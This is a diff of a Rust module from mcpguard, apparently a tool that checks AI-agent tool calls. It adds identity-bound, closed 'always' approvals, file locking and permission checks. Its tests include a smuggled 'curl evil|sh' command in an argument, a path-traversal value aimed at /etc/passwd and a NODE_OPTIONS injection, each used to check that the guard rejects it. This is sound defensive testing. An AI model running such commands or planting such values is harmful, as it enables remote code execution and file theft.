@@ -1,31 +1,41 @@
 //! Approvals answered "always": the user's own overlay on every profile.
 //!
 //! Owns: the file `approvals.toml` in mcpguard's config directory (a file mcpguard owns,
-//! never a built-in or a team's profile), its entries (server, tool, a glob per named
-//! argument), whether a call matches one, adding one atomically, and revoking. An entry
-//! only turns a `prompt` into `allow`: it never overrides a `deny`. Arguments an entry does
-//! not name are free; a value with a `..` path component never matches (it could lead out
-//! of any directory a pattern names).
+//! never a built-in or a team's profile, and not used when anyone else could have written
+//! it), its entries, whether a call matches one, writing one (atomically, under a lock),
+//! and revoking. An entry is for one server identity (its name and the exact command it
+//! runs) and one tool, and it is closed: a call matches only when it has exactly the
+//! arguments the entry names, each string matching its glob (a value with a `..` path
+//! component never does) and every other value equal to the one approved. An entry only
+//! turns a `prompt` into `allow`: it never overrides a `deny`.
 
+use super::digest::canonical_text;
+use nix::fcntl::{Flock, FlockArg};
 use serde::{Deserialize, Serialize};
 use serde_json::Value;
 use std::collections::BTreeMap;
 use std::path::{Path, PathBuf};
 
-/// Argument key → glob its value (as text: strings as they are, others as compact JSON)
-/// must match.
+/// Argument key → glob its string value must match (a person's widening of one call).
 pub(crate) type ArgPatterns = BTreeMap<String, String>;
 
 #[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
 #[serde(deny_unknown_fields)]
 pub(crate) struct Entry {
     pub(crate) server: String,
+    /// The server's identity: its name and a digest of the command it runs (another
+    /// package under the same name gets nothing).
+    pub(crate) identity: String,
     pub(crate) tool: String,
+    /// String arguments: key → glob.
     #[serde(default)]
     pub(crate) arguments: ArgPatterns,
+    /// Every other argument: key → its value exactly (JSON, keys sorted).
+    #[serde(default)]
+    pub(crate) exact: BTreeMap<String, String>,
     /// When it was written (RFC 3339).
     pub(crate) created: String,
-    /// Who answered (`socket uid=1000`, `tty`).
+    /// Who answered (`socket uid=1000 pid=… …`, `tty`).
     pub(crate) by: String,
 }
 
@@ -53,20 +63,17 @@ pub(crate) enum AlwaysError {
         path: PathBuf,
         source: std::io::Error,
     },
-    #[error("argument `{key}`: `{glob}` is not a valid glob: {message}")]
-    Glob {
-        key: String,
-        glob: String,
-        message: String,
-    },
+    #[error("argument `{key}`: {message}")]
+    Pattern { key: String, message: String },
     #[error("{0}")]
     NoConfigDir(&'static str),
 }
 
 const HEADER: &str = "# Approvals answered \"always\" (written by mcpguard approve; see them with\n\
 # `mcpguard approvals list`, remove them with `mcpguard approvals revoke`). Each entry lets\n\
-# a call of `tool` on `server` run without asking when every argument named under\n\
-# `arguments` matches its glob; arguments not named are free. Entries never override a deny.\n";
+# a call of `tool` on the server `identity` names run without asking when its arguments are\n\
+# exactly those named: strings matching their glob under `arguments`, other values equal to\n\
+# those under `exact`. Entries never override a deny.\n";
 
 /// Where the file is.
 pub(crate) fn path() -> Result<PathBuf, AlwaysError> {
@@ -128,15 +135,32 @@ fn check_owner(path: &Path) -> Result<(), AlwaysError> {
     }
 }
 
-/// Writes `file` to `path` whole, through a temporary file and a rename (0600).
-pub(crate) fn save(path: &Path, file: &File) -> Result<(), AlwaysError> {
+/// Changes the file at `path` under an exclusive lock (two writers never lose each
+/// other's change, and a revoked entry cannot come back), writing it whole through a
+/// temporary file and a rename (0600). `change` returns what to report.
+pub(crate) fn update<T>(
+    path: &Path,
+    change: impl FnOnce(&mut File) -> Result<T, AlwaysError>,
+) -> Result<T, AlwaysError> {
     let failed = |source| AlwaysError::Write {
         path: path.to_owned(),
         source,
     };
-    let text = toml::to_string(file).map_err(|e| failed(std::io::Error::other(e)))?;
     let dir = path.parent().unwrap_or(Path::new("."));
-    std::fs::create_dir_all(dir).map_err(failed)?;
+    {
+        use std::os::unix::fs::DirBuilderExt;
+        std::fs::DirBuilder::new()
+            .recursive(true)
+            .mode(0o700)
+            .create(dir)
+            .map_err(failed)?;
+    }
+    let lock_file = std::fs::File::create(dir.join(".approvals.lock")).map_err(failed)?;
+    let _lock = Flock::lock(lock_file, FlockArg::LockExclusive)
+        .map_err(|(_, errno)| failed(std::io::Error::from(errno)))?;
+    let mut file = load(path)?;
+    let outcome = change(&mut file)?;
+    let text = toml::to_string(&file).map_err(|e| failed(std::io::Error::other(e)))?;
     let temporary = dir.join(format!(".approvals.toml.{}", std::process::id()));
     {
         use std::io::Write;
@@ -152,92 +176,146 @@ pub(crate) fn save(path: &Path, file: &File) -> Result<(), AlwaysError> {
         out.write_all(text.as_bytes()).map_err(failed)?;
         out.sync_all().map_err(failed)?;
     }
-    std::fs::rename(&temporary, path).map_err(failed)
-}
-
-/// Checks that every glob of `patterns` compiles.
-pub(crate) fn check(patterns: &ArgPatterns) -> Result<(), AlwaysError> {
-    for (key, glob) in patterns {
-        matcher(glob).map_err(|message| AlwaysError::Glob {
-            key: key.clone(),
-            glob: glob.clone(),
-            message,
-        })?;
-    }
-    Ok(())
+    std::fs::rename(&temporary, path).map_err(failed)?;
+    Ok(outcome)
 }
 
 fn matcher(glob: &str) -> Result<globset::GlobMatcher, String> {
     globset::GlobBuilder::new(glob)
         .literal_separator(true)
+        .backslash_escape(false)
         .build()
         .map(|g| g.compile_matcher())
         .map_err(|e| e.to_string())
-}
-
-/// A value as a pattern sees it.
-fn text_of(value: &Value) -> String {
-    match value {
-        Value::String(text) => text.clone(),
-        other => other.to_string(),
-    }
 }
 
 fn has_parent_component(text: &str) -> bool {
     text.split(['/', '\\']).any(|part| part == "..")
 }
 
+/// The entry an "always" answer to `arguments` writes: each string exactly (glob
+/// characters escaped) unless `widened` gives its glob; every other value exactly.
+pub(crate) fn entry_for(
+    server: &str,
+    identity: &str,
+    tool: &str,
+    arguments: &Value,
+    widened: &ArgPatterns,
+    created: String,
+    by: String,
+) -> Result<Entry, AlwaysError> {
+    let empty = serde_json::Map::new();
+    let map = match arguments {
+        Value::Object(map) => map,
+        Value::Null => &empty,
+        _ => {
+            return Err(AlwaysError::Pattern {
+                key: "(arguments)".into(),
+                message: "the arguments are not an object".into(),
+            });
+        }
+    };
+    for key in widened.keys() {
+        if !matches!(map.get(key), Some(Value::String(_))) {
+            return Err(AlwaysError::Pattern {
+                key: key.clone(),
+                message: "a pattern is for a string argument of this call".into(),
+            });
+        }
+    }
+    let mut entry = Entry {
+        server: server.to_owned(),
+        identity: identity.to_owned(),
+        tool: tool.to_owned(),
+        arguments: ArgPatterns::new(),
+        exact: BTreeMap::new(),
+        created,
+        by,
+    };
+    for (key, value) in map {
+        match value {
+            Value::String(text) => {
+                let glob = widened
+                    .get(key)
+                    .cloned()
+                    .unwrap_or_else(|| globset::escape(text));
+                matcher(&glob).map_err(|message| AlwaysError::Pattern {
+                    key: key.clone(),
+                    message: format!("`{glob}` is not a valid glob: {message}"),
+                })?;
+                entry.arguments.insert(key.clone(), glob);
+            }
+            other => {
+                entry.exact.insert(key.clone(), canonical_text(other));
+            }
+        }
+    }
+    Ok(entry)
+}
+
 impl Entry {
-    /// Whether a call of `tool` on `server` with `arguments` is one this entry allows.
-    pub(crate) fn allows(&self, server: &str, tool: &str, arguments: Option<&Value>) -> bool {
-        if self.server != server || self.tool != tool {
+    /// Whether a call of `tool` on the server `identity` with `arguments` is one this
+    /// entry allows.
+    pub(crate) fn allows(&self, identity: &str, tool: &str, arguments: Option<&Value>) -> bool {
+        if self.identity != identity || self.tool != tool {
             return false;
         }
-        self.arguments.iter().all(|(key, glob)| {
-            let Some(value) = arguments.and_then(|a| a.get(key)) else {
-                return false;
-            };
-            let text = text_of(value);
-            !has_parent_component(&text) && matcher(glob).is_ok_and(|m| m.is_match(&text))
-        })
-    }
-}
-
-/// The exact pattern of a call: every argument as it is (glob characters escaped), which
-/// the person may then widen.
-pub(crate) fn exact_patterns(arguments: &Value) -> ArgPatterns {
-    let Value::Object(map) = arguments else {
-        return ArgPatterns::new();
-    };
-    map.iter()
-        .map(|(key, value)| (key.clone(), globset::escape(&text_of(value))))
-        .collect()
-}
-
-/// Reads `KEY=GLOB, KEY=GLOB` as typed in the approval view or on the command line.
-pub(crate) fn parse_patterns(text: &str) -> Result<ArgPatterns, String> {
-    let mut patterns = ArgPatterns::new();
-    for part in text.split(',').map(str::trim).filter(|p| !p.is_empty()) {
-        let (key, glob) = part
-            .split_once('=')
-            .ok_or_else(|| format!("`{part}` is not KEY=GLOB"))?;
-        let (key, glob) = (key.trim(), glob.trim());
-        if key.is_empty() {
-            return Err(format!("`{part}` names no argument"));
+        let empty = serde_json::Map::new();
+        let map = match arguments {
+            Some(Value::Object(map)) => map,
+            None | Some(Value::Null) => &empty,
+            Some(_) => return false,
+        };
+        if map.len() != self.arguments.len() + self.exact.len() {
+            return false;
         }
-        matcher(glob).map_err(|e| format!("`{glob}` is not a valid glob: {e}"))?;
-        patterns.insert(key.to_owned(), glob.to_owned());
+        map.iter().all(
+            |(key, value)| match (value, self.arguments.get(key), self.exact.get(key)) {
+                (Value::String(text), Some(glob), None) => {
+                    !has_parent_component(text) && matcher(glob).is_ok_and(|m| m.is_match(text))
+                }
+                (value, None, Some(exact)) if !value.is_string() => canonical_text(value) == *exact,
+                _ => false,
+            },
+        )
     }
-    Ok(patterns)
+
+    /// The arguments as `mcpguard approvals list` shows them.
+    pub(crate) fn shown(&self) -> String {
+        let mut parts: Vec<String> = self
+            .arguments
+            .iter()
+            .map(|(key, glob)| format!("{key}={glob}"))
+            .collect();
+        parts.extend(
+            self.exact
+                .iter()
+                .map(|(key, json)| format!("{key}=={json}")),
+        );
+        if parts.is_empty() {
+            "no arguments".to_owned()
+        } else {
+            parts.join(" ")
+        }
+    }
 }
 
-/// Shows patterns as `parse_patterns` reads them.
-pub(crate) fn format_patterns(patterns: &ArgPatterns) -> String {
-    patterns
-        .iter()
-        .map(|(key, glob)| format!("{key}={glob}"))
-        .collect::<Vec<_>>()
-        .join(", ")
+/// Reads one `KEY=GLOB` as typed on the command line (the glob is everything after the
+/// first `=`).
+pub(crate) fn parse_pattern(text: &str) -> Result<(String, String), String> {
+    let (key, glob) = text
+        .split_once('=')
+        .ok_or_else(|| format!("`{text}` is not KEY=GLOB"))?;
+    if key.is_empty() {
+        return Err(format!("`{text}` names no argument"));
+    }
+    matcher(glob).map_err(|e| format!("`{glob}` is not a valid glob: {e}"))?;
+    Ok((key.to_owned(), glob.to_owned()))
+}
+
+/// Checks a typed glob.
+pub(crate) fn check_glob(glob: &str) -> Result<(), String> {
+    matcher(glob).map(|_| ())
 }
 
 #[cfg(test)]
@@ -246,94 +324,147 @@ mod tests {
     use pretty_assertions::assert_eq;
     use serde_json::json;
 
-    fn entry(arguments: &[(&str, &str)]) -> Entry {
-        Entry {
-            server: "fs".into(),
-            tool: "write_file".into(),
-            arguments: arguments
-                .iter()
-                .map(|(k, v)| ((*k).to_owned(), (*v).to_owned()))
-                .collect(),
-            created: "2026-12-06T00:00:00Z".into(),
-            by: "tty".into(),
-        }
+    fn entry(arguments: &Value, widened: &[(&str, &str)]) -> Entry {
+        let widened = widened
+            .iter()
+            .map(|(k, v)| ((*k).to_owned(), (*v).to_owned()))
+            .collect();
+        entry_for(
+            "fs",
+            "fs-0123",
+            "write_file",
+            arguments,
+            &widened,
+            "t".into(),
+            "tty".into(),
+        )
+        .unwrap()
     }
 
     #[test]
     fn an_entry_allows_matching_calls_only() {
-        let notes = entry(&[("path", "/ws/notes/**")]);
+        let approved = json!({"path": "/ws/notes/a.md", "content": "x"});
+        let notes = entry(&approved, &[("path", "/ws/notes/**"), ("content", "*")]);
         let call = |path: &str| json!({"path": path, "content": "anything"});
-        assert!(notes.allows("fs", "write_file", Some(&call("/ws/notes/a/b.md"))));
-        assert!(!notes.allows("fs", "write_file", Some(&call("/ws/other.md"))));
-        assert!(!notes.allows(
-            "fs",
-            "write_file",
-            Some(&call("/ws/notes/../../etc/passwd"))
-        ));
-        assert!(!notes.allows("fs", "edit_file", Some(&call("/ws/notes/a.md"))));
-        assert!(!notes.allows("other", "write_file", Some(&call("/ws/notes/a.md"))));
-        assert!(!notes.allows("fs", "write_file", Some(&json!({"content": "no path"}))));
-        assert!(!notes.allows("fs", "write_file", None));
-        let star = entry(&[("path", "/ws/*")]);
+        let allows = |e: &Entry, args: &Value| e.allows("fs-0123", "write_file", Some(args));
+        assert!(allows(&notes, &call("/ws/notes/a/b.md")));
+        assert!(!allows(&notes, &call("/ws/other.md")));
+        assert!(!allows(&notes, &call("/ws/notes/../../etc/passwd")));
+        assert!(!notes.allows("fs-0123", "edit_file", Some(&call("/ws/notes/a.md"))));
         assert!(
-            !star.allows("fs", "write_file", Some(&call("/ws/a/b"))),
+            !notes.allows("fs-9999", "write_file", Some(&call("/ws/notes/a.md"))),
+            "another server identity"
+        );
+        // Closed: an argument the entry does not name, or one missing, is another call.
+        assert!(!allows(
+            &notes,
+            &json!({"path": "/ws/notes/a.md", "content": "x", "env": {"NODE_OPTIONS": "--require x"}})
+        ));
+        assert!(!allows(&notes, &json!({"path": "/ws/notes/a.md"})));
+        assert!(!allows(
+            &notes,
+            &json!({"PATH": "/ws/notes/a.md", "content": "x"})
+        ));
+        let star = entry(&json!({"path": "/ws/a"}), &[("path", "/ws/*")]);
+        assert!(
+            !allows(&star, &json!({"path": "/ws/a/b"})),
             "* stays in one directory"
         );
-        assert!(entry(&[]).allows("fs", "write_file", None));
-    }
-
-    #[test]
-    fn exact_patterns_match_only_the_call_they_came_from() {
-        let arguments = json!({"path": "/ws/[a]*.md", "n": 3});
-        let patterns = exact_patterns(&arguments);
-        let mut exact = entry(&[]);
-        exact.arguments = patterns.clone();
-        assert!(exact.allows("fs", "write_file", Some(&arguments)));
-        assert!(!exact.allows(
-            "fs",
-            "write_file",
-            Some(&json!({"path": "/ws/a-x.md", "n": 3}))
-        ));
-        assert!(!exact.allows(
-            "fs",
-            "write_file",
-            Some(&json!({"path": "/ws/[a]*.md", "n": 4}))
-        ));
-        assert_eq!(
-            parse_patterns(&format_patterns(&patterns)).unwrap(),
-            patterns
+        let none = entry(&json!({}), &[]);
+        assert!(none.allows("fs-0123", "write_file", None));
+        assert!(
+            !allows(&none, &json!({"path": "/x"})),
+            "no arguments means none"
         );
     }
 
     #[test]
-    fn typed_patterns_are_checked() {
+    fn exact_entries_match_only_the_call_they_came_from() {
+        let arguments = json!({"cmd": "ls \\*", "glob": "/ws/[a]*.md", "n": 3, "confirm": false});
+        let exact = entry(&arguments, &[]);
+        let allows = |args: &Value| exact.allows("fs-0123", "write_file", Some(args));
+        assert!(allows(&arguments));
+        assert!(!allows(
+            &json!({"cmd": "ls [$(curl evil|sh)]", "glob": "/ws/[a]*.md", "n": 3, "confirm": false})
+        ));
+        assert!(!allows(
+            &json!({"cmd": "ls \\*", "glob": "/ws/a-x.md", "n": 3, "confirm": false})
+        ));
+        assert!(!allows(
+            &json!({"cmd": "ls \\*", "glob": "/ws/[a]*.md", "n": 4, "confirm": false})
+        ));
+        // A value is compared as the value it is: the string "false" is not false.
+        assert!(!allows(
+            &json!({"cmd": "ls \\*", "glob": "/ws/[a]*.md", "n": 3, "confirm": "false"})
+        ));
         assert_eq!(
-            parse_patterns(" path = /ws/** , mode=a ").unwrap(),
-            ArgPatterns::from([
-                ("mode".into(), "a".into()),
-                ("path".into(), "/ws/**".into())
-            ])
+            exact.shown(),
+            "cmd=ls \\[*] glob=/ws/[[]a[]][*].md confirm==false n==3"
         );
-        assert!(parse_patterns("path").is_err());
-        assert!(parse_patterns("=x").is_err());
-        assert!(parse_patterns("path=[").is_err());
     }
 
     #[test]
-    fn the_file_round_trips_and_a_missing_one_is_empty() {
+    fn patterns_are_checked() {
+        assert_eq!(
+            parse_pattern("path=/ws/**").unwrap(),
+            ("path".into(), "/ws/**".into())
+        );
+        assert_eq!(
+            parse_pattern("q=a, b=c").unwrap(),
+            ("q".into(), "a, b=c".into())
+        );
+        assert!(parse_pattern("path").is_err());
+        assert!(parse_pattern("=x").is_err());
+        assert!(parse_pattern("path=[").is_err());
+        let widened = ArgPatterns::from([("n".to_owned(), "*".to_owned())]);
+        assert!(
+            entry_for(
+                "fs",
+                "i",
+                "t",
+                &json!({"n": 3}),
+                &widened,
+                "t".into(),
+                "b".into()
+            )
+            .is_err()
+        );
+        let missing = ArgPatterns::from([("other".to_owned(), "*".to_owned())]);
+        assert!(
+            entry_for(
+                "fs",
+                "i",
+                "t",
+                &json!({"n": 3}),
+                &missing,
+                "t".into(),
+                "b".into()
+            )
+            .is_err()
+        );
+    }
+
+    #[test]
+    fn the_file_round_trips_under_its_lock_and_a_missing_one_is_empty() {
         let dir = tempfile::tempdir().unwrap();
         let path = dir.path().join("sub/approvals.toml");
         assert_eq!(load(&path).unwrap(), File::default());
-        let file = File {
-            entries: vec![entry(&[("path", "/ws/**")])],
-        };
-        save(&path, &file).unwrap();
-        assert_eq!(load(&path).unwrap(), file);
+        let one = entry(&json!({"path": "/ws/a"}), &[("path", "/ws/**")]);
+        update(&path, |file| {
+            file.entries.push(one.clone());
+            Ok(())
+        })
+        .unwrap();
+        assert_eq!(load(&path).unwrap(), File { entries: vec![one] });
         use std::os::unix::fs::PermissionsExt;
         assert_eq!(
             std::fs::metadata(&path).unwrap().permissions().mode() & 0o777,
             0o600
         );
+        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o666)).unwrap();
+        let error = load(&path).unwrap_err().to_string();
+        assert!(error.contains("others may write it"), "{error}");
+        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o600)).unwrap();
         std::fs::write(&path, "[[approval]]\nserver = 1\n").unwrap();
         let error = load(&path).unwrap_err().to_string();
         assert!(
